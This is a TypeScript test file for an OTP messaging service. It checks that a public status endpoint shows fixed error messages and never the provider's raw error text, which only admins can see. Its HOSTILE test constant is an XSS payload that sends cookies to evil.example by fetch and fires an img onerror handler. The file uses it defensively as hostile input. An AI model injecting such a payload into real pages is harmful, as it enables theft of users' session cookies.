import { SELF } from 'cloudflare:test';
import { describe, expect, it } from 'vitest';
import { GENERIC_ERROR_MESSAGE, PUBLIC_ERROR_MESSAGES, publicLastError } from '../src/api/public-last-error';
import { adminJson } from './support/admin';
import { withKey } from './support/apps';
import { PROVIDER_URL, SEND_ROUTE, seedRequest, startMessagingEnv } from './support/fixtures';
import { interceptOrigin, json } from './support/outbound';
import { deliverSendJobs } from './support/queue';

const BASE = 'https://otp.test';
const HOSTILE = '<script>fetch("https://evil.example/?c="+document.cookie)</script><img src=x onerror=alert(1)> call support';

describe('GET /v1/otp/:id shows a fixed message per error code, never the provider’s text', () => {
  it('a provider’s hostile error text: the public view has the code and its fixed message; operators see the text', async () => {
    const calls = interceptOrigin(PROVIDER_URL, { [SEND_ROUTE]: () => json(400, { success: false, error: { code: 'BAD', message: HOSTILE } }) });
    const { id } = await seedRequest();
    await deliverSendJobs(startMessagingEnv(), [id]);
    expect(calls).toHaveLength(1);

    const response = await SELF.fetch(`${BASE}/v1/otp/${id}`, { headers: withKey() });
    expect(response.status).toBe(200);
    const text = await response.text();
    expect(JSON.parse(text)).toMatchObject({
      status: 'failed',
      lastError: { code: 'provider_rejected_request', message: PUBLIC_ERROR_MESSAGES.provider_rejected_request },
    });
    expect(text).not.toContain('<script');
    expect(text).not.toContain('onerror');
    expect(text).not.toContain('call support');

    // The consumer kept the provider's text for operators, behind the admin token.
    const admin = await adminJson<{ request: { lastError: { code: string; message: string } } }>(`/v1/admin/requests/${id}`);
    expect(admin.status).toBe(200);
    expect(admin.body.request.lastError).toEqual({ code: 'provider_rejected_request', message: HOSTILE });
  });

  it('a transient failure shows its fixed message while the request waits for its retry', async () => {
    interceptOrigin(PROVIDER_URL, { [SEND_ROUTE]: () => json(503, { error: { message: `${HOSTILE} (maintenance)` } }) });
    const { id } = await seedRequest();
    await deliverSendJobs(startMessagingEnv(), [id]);
    const body = await (await SELF.fetch(`${BASE}/v1/otp/${id}`, { headers: withKey() })).json<{ status: string; lastError: unknown }>();
    expect(body).toMatchObject({ status: 'queued', lastError: { code: 'provider_unavailable', message: PUBLIC_ERROR_MESSAGES.provider_unavailable } });
  });

  it('a code the table does not know gets the generic message, not what is stored', async () => {
    const { env } = await import('cloudflare:test');
    const { id } = await seedRequest();
    await env.DB.prepare("UPDATE otp_requests SET status = 'failed', last_error_code = 'something_new', last_error_message = ? WHERE id = ?")
      .bind(HOSTILE, id)
      .run();
    const body = await (await SELF.fetch(`${BASE}/v1/otp/${id}`, { headers: withKey() })).json<{ lastError: unknown }>();
    expect(body.lastError).toEqual({ code: 'something_new', message: GENERIC_ERROR_MESSAGE });
    // Names that objects inherit are not codes either.
    expect(publicLastError('constructor')).toEqual({ code: 'constructor', message: GENERIC_ERROR_MESSAGE });
  });

  it('every error code the consumer and providers can record has its own fixed message', () => {
    // Read from the source, so that a code added there without a public message fails here.
    const sources = import.meta.glob<string>(
      ['../src/consumer/*.ts', '../src/cron/*.ts', '../src/delivery-reports/*.ts', '../src/resend/*.ts', '../src/providers/*.ts', '../src/db/*.ts'],
      {
        query: '?raw',
        import: 'default',
        eager: true,
      },
    );
    const recorded = new Set<string>();
    const patterns = [/'(provider_[a-z_]+)'/g, /errorCode: '([a-z_]+)'/g, /last_error_code = (?:COALESCE\(last_error_code, )?'([a-z_]+)'/g];
    for (const text of Object.values(sources)) {
      for (const pattern of patterns) for (const match of text.matchAll(pattern)) recorded.add(match[1]!);
    }
    // The scan found what it is meant to: codes from both the providers and the consumer.
    for (const known of ['provider_rejected_request', 'provider_timeout', 'retries_exhausted', 'expired_before_delivery', 'provider_delivery_failed']) {
      expect(recorded.has(known), known).toBe(true);
    }
    const missing = [...recorded].filter((code) => !Object.hasOwn(PUBLIC_ERROR_MESSAGES, code));
    expect(missing).toEqual([]);
  });

  it('the fixed messages are plain sentences', () => {
    for (const [code, message] of Object.entries(PUBLIC_ERROR_MESSAGES)) {
      expect(message, code).toMatch(/^[A-Z][A-Za-z ;,'’.-]+$/);
    }
  });
});
